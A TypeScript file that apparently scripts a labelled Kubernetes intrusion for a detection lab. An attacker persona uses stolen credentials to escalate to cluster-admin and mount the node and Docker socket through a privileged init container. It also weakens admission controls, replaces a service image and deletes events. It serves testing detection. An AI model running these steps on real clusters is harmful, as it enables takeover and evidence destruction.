/** The intrusion: stolen credentials of a developer, from a question about rights to a replaced image and cut traces. */
import { deployEstate, image } from './estate.ts'
import type { Estate } from './estate.ts'
import type { GroundTruth, StepFacts } from './ground-truth.ts'
import { pause, setting } from './people.ts'
import type { Ran } from './people.ts'

const audit = 'kubernetes-audit'
const engine = 'docker-engine'

export async function intrusion(truth: GroundTruth, estate: Estate): Promise<void> {
  const { admin, alice, ci, mallory } = estate
  await deployEstate(truth, estate)

  const benign = (step: string, actor: string, what: string, act: () => Promise<unknown>) =>
    truth.step({ step, actor, what, catalogue: [], sources: [audit] }, async () => void (await act()))
  const attack = (facts: Omit<StepFacts, 'actor' | 'from'>, act: () => Promise<Record<string, string> | void>) =>
    truth.step({ ...facts, actor: 'mallory', from: '203.0.113.66' }, act)
  const kubectl = (...words: string[]): Promise<Ran> => mallory.run(['kubectl', ...words])

  await benign('look-around', 'alice', 'Alice on call looks at the shop', async () => {
    await alice.run(['kubectl', '-n', 'shop', 'get', 'pods', '-o', 'wide'])
    await alice.run(['kubectl', '-n', 'shop', 'logs', 'deployment/web', '--tail=5'])
  })

  await attack(
    {
      step: 'rights-asked',
      what: 'Asks the API server what the stolen credentials may do',
      catalogue: ['A03'],
      sources: [audit],
    },
    async () => {
      await kubectl('auth', 'can-i', '--list', '-n', 'shop')
      await kubectl('auth', 'can-i', 'create', 'pods', '-n', 'shop')
      await kubectl('auth', 'can-i', '*', '*', '--all-namespaces')
      await kubectl('auth', 'can-i', 'get', 'secrets', '-n', 'kube-system')
    },
  )
  await attack(
    {
      step: 'resources-listed',
      what: 'Lists kinds of resources across namespaces, most of it denied',
      catalogue: ['A01', 'A04'],
      sources: [audit],
    },
    async () => {
      for (const namespace of ['shop', 'platform', 'kube-system', 'default']) {
        for (const kind of [
          'pods',
          'secrets',
          'configmaps',
          'serviceaccounts',
          'services',
          'deployments',
          'rolebindings',
        ]) {
          await kubectl('-n', namespace, 'get', kind)
        }
      }
      for (const kind of ['nodes', 'namespaces', 'clusterrolebindings', 'validatingwebhookconfigurations'])
        await kubectl('get', kind)
      await kubectl('get', 'secrets', '--all-namespaces')
    },
  )
  await pause(3)

  await attack(
    {
      step: 'short-lived-pod',
      what: 'Creates a pod, looks around in it, reads its logs and deletes it within three minutes',
      catalogue: ['A17', 'B01'],
      sources: [audit, engine],
      entities: { namespace: 'shop', pod: 'tmp-7f3a' },
    },
    async () => {
      await kubectl(
        '-n',
        'shop',
        'run',
        'tmp-7f3a',
        `--image=${image('platform/base', '1.35')}`,
        '--restart=Never',
        '--',
        'sleep',
        '600',
      )
      await kubectl('-n', 'shop', 'wait', '--for=condition=ready', 'pod/tmp-7f3a', '--timeout=60s')
      const container = estate.container('tmp-7f3a', 'tmp-7f3a')
      const look = 'id; env; cat /proc/1/cgroup; ls -la /var/run/secrets/kubernetes.io/serviceaccount'
      await kubectl('-n', 'shop', 'exec', 'tmp-7f3a', '--', 'sh', '-c', look)
      await kubectl(
        '-n',
        'shop',
        'exec',
        'tmp-7f3a',
        '--',
        'sh',
        '-c',
        'nslookup orders-db.shop.svc; cat /etc/resolv.conf',
      )
      await kubectl('-n', 'shop', 'logs', 'tmp-7f3a')
      await pause(8)
      await kubectl('-n', 'shop', 'delete', 'pod', 'tmp-7f3a', '--grace-period=1')
      return { container }
    },
  )

  const web = estate.pod('shop', 'web')
  const database = estate.pod('shop', 'orders-db')
  const webContainer = estate.container(web, 'web')
  await attack(
    {
      step: 'exec-in-service',
      what: 'Runs commands in a pod of the running service, by SPDY and by WebSocket, one with a password in it',
      catalogue: ['B01'],
      sources: [audit, engine],
      entities: { namespace: 'shop', pod: web, container: webContainer },
    },
    async () => {
      await kubectl('-n', 'shop', 'exec', web, '--', 'cat', '/etc/shop/release')
      await kubectl(
        '-n',
        'shop',
        'exec',
        web,
        '--',
        'db-client',
        `--host=${estate.address(database)}`,
        '--user=shop',
        '--password=S0mmer-2026!',
      )
      await mallory.run(['exec-websocket', 'shop', web, 'web', 'sh', '-c', 'id; ps; ls -la /etc/shop /www'])
    },
  )
  await benign('rollout', 'ci', 'The pipeline rolls out a new release of orders', async () => {
    await estate.build('orders', '2.0.2')
    await ci.run([
      'kubectl',
      '-n',
      'shop',
      'set',
      'image',
      'deployment/orders',
      `orders=${image('shop/orders', '2.0.2')}`,
    ])
    await ci.run(['kubectl', '-n', 'shop', 'rollout', 'status', 'deployment/orders', '--timeout=60s'])
  })

  await attack(
    {
      step: 'database-forwarded',
      what: "Forwards a port of her own machine to the database's pod and speaks to it",
      catalogue: ['B09', 'B10'],
      sources: [audit],
      entities: { namespace: 'shop', pod: database, container: estate.container(database, 'db') },
    },
    () =>
      mallory.during(['kubectl', '-n', 'shop', 'port-forward', `pod/${database}`, '15432:5432'], async () => {
        await mallory.run(['sh', '-c', 'echo status | timeout 3 nc 127.0.0.1 15432'])
      }),
  )
  await ephemeral(attack, estate, web)
  const pod = await privilegedInit(attack, estate)

  await attack(
    {
      step: 'guards-weakened',
      what: "Lets the admission guard fail open, and takes the namespace's pod security label down",
      catalogue: ['C25', 'C26'],
      sources: [audit],
      entities: { webhook: 'policy-guard', namespace: 'shop' },
    },
    async () => {
      const open = '[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Ignore"}]'
      await kubectl('patch', 'validatingwebhookconfiguration', 'policy-guard', '--type=json', '-p', open)
      await kubectl('label', 'namespace', 'shop', '--overwrite', 'pod-security.kubernetes.io/enforce=privileged')
      await kubectl('label', 'namespace', 'platform', 'pod-security.kubernetes.io/enforce-')
    },
  )
  await attack(
    {
      step: 'cluster-admin-bound',
      what: "Binds herself to cluster-admin, and adds the shop's service account to a binding that has it",
      catalogue: ['F11'],
      sources: [audit],
      entities: { clusterrolebinding: 'mallory-on-call', rolebinding: 'platform-owners' },
    },
    async () => {
      await kubectl('create', 'clusterrolebinding', 'mallory-on-call', '--clusterrole=cluster-admin', '--user=mallory')
      const subject = '{"kind":"ServiceAccount","name":"report","namespace":"shop"}'
      const patch = `[{"op":"add","path":"/subjects/-","value":${subject}}]`
      await kubectl('-n', 'platform', 'patch', 'rolebinding', 'platform-owners', '--type=json', '-p', patch)
      await kubectl('--as=system:serviceaccount:shop:report', '-n', 'platform', 'get', 'secrets')
    },
  )
  await fromTheSocket(attack, estate, pod, webContainer)

  await attack(
    {
      step: 'events-deleted',
      what: 'Deletes Kubernetes events, one and then all of a namespace',
      catalogue: ['G01'],
      sources: [audit],
      entities: { namespace: 'shop' },
    },
    async () => {
      const { output } = await kubectl('-n', 'shop', 'get', 'events', '-o', 'name')
      await kubectl('-n', 'shop', 'delete', output.split('\n').find((name) => name.includes(pod)) ?? 'event/none')
      await kubectl('delete', '--raw', '/api/v1/namespaces/shop/events')
    },
  )
  await benign('restart', 'ci', 'The pipeline restarts web: its new pods run the image that was replaced', async () => {
    await ci.run(['kubectl', '-n', 'shop', 'rollout', 'restart', 'deployment/web'])
    await ci.run(['kubectl', '-n', 'shop', 'rollout', 'status', 'deployment/web', '--timeout=60s'])
  })
  await benign('look-again', 'admin', 'The administrator looks at the nodes', () =>
    admin.run(['kubectl', 'get', 'nodes']),
  )
  await pause(Number(setting('LAB_SETTLE')))
}

type Attack = (
  facts: Omit<StepFacts, 'actor' | 'from'>,
  act: () => Promise<Record<string, string> | void>,
) => Promise<void>

/** An ephemeral container by kubectl, then a privileged one by a request of her own. */
async function ephemeral(attack: Attack, estate: Estate, pod: string): Promise<void> {
  const { mallory } = estate
  const path = `/api/v1/namespaces/shop/pods/${pod}/ephemeralcontainers`
  await attack(
    {
      step: 'ephemeral-added',
      what: 'Adds a debug container to the running service, then a privileged one',
      catalogue: ['B12', 'B13', 'A18'],
      sources: [audit, engine],
      entities: { namespace: 'shop', pod },
    },
    async () => {
      const base = image('platform/base', '1.35')
      await mallory.run([
        'kubectl',
        '-n',
        'shop',
        'debug',
        pod,
        `--image=${base}`,
        '--target=web',
        '--container=debug-1',
        '--',
        'sh',
        '-c',
        'ps; sleep 20',
      ])
      const { output } = await mallory.run(['kubectl', 'get', '--raw', path])
      const listed = JSON.parse(output) as { ephemeralContainers: object[] }
      listed.ephemeralContainers.push({
        name: 'debug-2',
        image: base,
        command: ['sh', '-c', 'cat /proc/1/environ; ls /dev; sleep 20'],
        securityContext: { privileged: true },
        targetContainerName: 'web',
      })
      await mallory.run(['kubectl', 'replace', '--raw', path, '-f', '-'], { input: JSON.stringify(listed) })
      await pause(8)
      return { container: estate.container(pod, 'debug-2') }
    },
  )
}

/** A pod whose main container is the platform's own image, and whose init container owns the node. */
async function privilegedInit(attack: Attack, estate: Estate): Promise<string> {
  const { mallory } = estate
  const pod = 'report-sync'
  const manifest = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: pod, namespace: 'shop', labels: { app: 'report' } },
    spec: {
      restartPolicy: 'Never',
      terminationGracePeriodSeconds: 1,
      initContainers: [
        {
          name: 'setup',
          image: image('platform/base', '1.35'),
          command: ['sleep', '900'],
          securityContext: { privileged: true },
          volumeMounts: [
            { name: 'engine', mountPath: '/var/run/docker.sock' },
            { name: 'host', mountPath: '/host' },
          ],
        },
      ],
      containers: [{ name: 'report', image: image('platform/toolbox', '2.1'), command: ['sleep', '900'] }],
      volumes: [
        { name: 'engine', hostPath: { path: '/var/run/docker.sock' } },
        { name: 'host', hostPath: { path: '/' } },
      ],
    },
  }
  await attack(
    {
      step: 'privileged-init',
      what: "Creates a pod with the platform's image and a privileged init container that mounts the node and the engine's socket",
      catalogue: ['C01', 'C02', 'C06'],
      sources: [audit, engine],
      entities: { namespace: 'shop', pod },
    },
    async () => {
      await mallory.run(['kubectl', 'create', '-f', '-'], { input: JSON.stringify(manifest) })
      await pause(6)
      return { container: estate.container(pod, 'setup') }
    },
  )
  return pod
}

/** What she does with the engine, from inside the container that holds its socket. */
async function fromTheSocket(attack: Attack, estate: Estate, pod: string, webContainer: string): Promise<void> {
  const { mallory } = estate
  const docker = (...words: string[]) =>
    mallory.run([
      'kubectl',
      '-n',
      'shop',
      'exec',
      pod,
      '-c',
      'setup',
      '--',
      'chroot',
      '/host',
      '/usr/bin/docker',
      ...words,
    ])
  const web = image('shop/web', '1.4.2')
  const facts = {
    sources: [audit, engine],
    entities: { namespace: 'shop', pod, container: estate.container(pod, 'setup') },
  }

  await attack(
    {
      ...facts,
      step: 'engine-exec',
      what: "Lists the node's containers and runs commands in some of them, past Kubernetes",
      catalogue: ['B17', 'B05'],
    },
    async () => {
      await docker('ps', '--format', '{{.Names}}')
      await docker('exec', 'shop_ledger_1', 'cat', '/etc/db/db.conf')
      await docker('exec', webContainer, 'sh', '-c', 'echo "<!-- -->" >>/www/index.html; env')
    },
  )
  await attack(
    {
      ...facts,
      step: 'image-replaced',
      what: "Commits the service's container and gives its image the name in use",
      catalogue: ['D03', 'D04', 'D06'],
    },
    async () => {
      await docker('commit', webContainer, 'shop/web:build')
      await docker('tag', 'shop/web:build', web)
      await docker('run', '-d', '--name', 'shop_edge_2', '--network', 'shop_front', web)
      return { image: web }
    },
  )
  await attack(
    {
      ...facts,
      step: 'boundary-bridged',
      what: 'Connects the container she started to the second network',
      catalogue: ['H06'],
    },
    async () => {
      await docker('network', 'connect', 'shop_data', 'shop_edge_2')
      await docker('exec', 'shop_edge_2', 'sh', '-c', 'echo status | timeout 3 nc shop_ledger_1 5432')
      return { network: 'shop_data', bridge: 'shop_edge_2' }
    },
  )
  await attack(
    {
      ...facts,
      step: 'three-second-container',
      what: 'Runs a container that lives three seconds and is gone',
      catalogue: ['D03'],
    },
    async () => {
      await docker('run', '--rm', '--network', 'shop_data', image('platform/base', '1.35'), 'sh', '-c', 'id; sleep 3')
    },
  )
}
